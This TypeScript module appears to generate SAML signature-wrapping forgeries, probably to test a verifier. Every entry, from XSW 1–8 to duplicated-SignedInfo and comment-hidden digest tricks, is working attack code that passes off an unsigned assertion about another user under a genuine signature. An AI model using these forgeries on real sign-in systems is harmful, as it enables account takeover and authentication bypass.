import { type SigningKey, sign } from './saml-documents.ts';

/** Ways to get a forged assertion accepted by a signature made for another one. */
const FORGERIES = {
  /** Signature wrapping, in the order of the literature (XSW 1 to 8): the first two wrap a signed response. */
  'wrapped-1': ({ response, forged, envelope }) =>
    afterIssuer(envelope(forged()), within(response.signature, response.bare)),
  'wrapped-2': ({ response, forged, envelope }) =>
    afterIssuer(envelope(forged()), response.bare + response.signature),
  'wrapped-3': ({ signed, forged, envelope }) => envelope(forged() + signed),
  'wrapped-4': ({ signed, forged, envelope }) => envelope(within(forged(), signed)),
  'wrapped-5': ({ bare, signature, forged, envelope }) => envelope(afterIssuer(forged(), signature) + bare),
  'wrapped-6': ({ bare, signature, forged, envelope }) =>
    envelope(afterIssuer(forged(), within(signature, bare))),
  'wrapped-7': ({ signed, id, forged, envelope }) =>
    envelope(`<Extensions xmlns="urn:oasis:names:tc:SAML:2.0:protocol">${forged(id)}</Extensions>${signed}`),
  'wrapped-8': ({ bare, signature, id, forged, envelope }) =>
    envelope(afterIssuer(forged(id), within(signature, `<Object>${bare}</Object>`))),
  /** The signed assertion stays in the document, but another one is where a careless parser looks first. */
  'wrapped-aside': ({ signed, forged, envelope }) =>
    envelope(`${forged()}<Extensions xmlns="urn:oasis:names:tc:SAML:2.0:protocol">${signed}</Extensions>`),
  /** One SignedInfo matches the content, the other the signature. */
  'two-signed-infos': ({ signature, id, forged, foreign, envelope }) => {
    const assertion = forged(id);
    const fitting = find(SIGNED_INFO, sign(assertion, foreign));
    return envelope(
      afterIssuer(
        assertion,
        signature.replace(SIGNED_INFO, (info) => fitting + info),
      ),
    );
  },
  /**
   * The digest that matches the content is in a comment, which isn't covered by the signature, before the signed one.
   */
  'comment-in-digest': ({ signature, id, forged, foreign, envelope }) => {
    const assertion = forged(id);
    const fitting = find(DIGEST, sign(assertion, foreign));
    return envelope(
      afterIssuer(
        assertion,
        signature.replace(DIGEST, (digest) => `<!--${fitting}-->${digest}`),
      ),
    );
  },
} satisfies Record<string, (material: Material) => string>;

export type SamlForgery = keyof typeof FORGERIES;
export const SAML_FORGERIES = Object.keys(FORGERIES).filter(isForgery);

/** An attacker's material. */
export interface Loot {
  /** As signed by the provider. */
  readonly assertion: string;
  /** Unsigned, about someone else, with its own id unless one is given. */
  readonly forged: (id?: string) => string;
  /** An unsigned response to the sign-in, with this content. */
  readonly envelope: (inner: string) => string;
  /** The provider's key. */
  readonly own: SigningKey;
  /** The attacker's key. */
  readonly foreign: SigningKey;
}

interface Material extends Loot {
  /** Of the genuine assertion. */
  readonly id: string;
  readonly signed: string;
  readonly signature: string;
  readonly bare: string;
  /** The same for a signed response around it. */
  readonly response: { readonly signature: string; readonly bare: string };
}

const SIGNATURE = /<Signature .*?<\/Signature>/s;
const SIGNED_INFO = /<SignedInfo.*?<\/SignedInfo>/s;
const DIGEST = /(?<=<DigestValue>)[^<]+/;

export function isForgery(fault: string): fault is SamlForgery {
  return Object.hasOwn(FORGERIES, fault);
}

export function forge(forgery: SamlForgery, loot: Loot): string {
  const signed = sign(loot.assertion, loot.own);
  const bare = loot.envelope(signed);
  const response = { bare, signature: find(SIGNATURE, sign(bare, loot.own, 'Response')) };
  const id = find(/(?<= ID=")[^"]+/, loot.assertion);
  return FORGERIES[forgery]({
    ...loot,
    id,
    signed,
    signature: find(SIGNATURE, signed),
    bare: loot.assertion,
    response,
  });
}

function find(pattern: RegExp, text: string): string {
  const [found] = pattern.exec(text) ?? [];
  if (found === undefined) throw new Error(`nothing like ${pattern} in ${text}`);
  return found;
}

/** Inserts at the position of a signature. */
function afterIssuer(element: string, inserted: string): string {
  return element.replace('</saml:Issuer>', (end) => end + inserted);
}

/** Inserts as the last child. */
function within(element: string, child: string): string {
  const end = element.lastIndexOf('</');
  return element.slice(0, end) + child + element.slice(end);
}
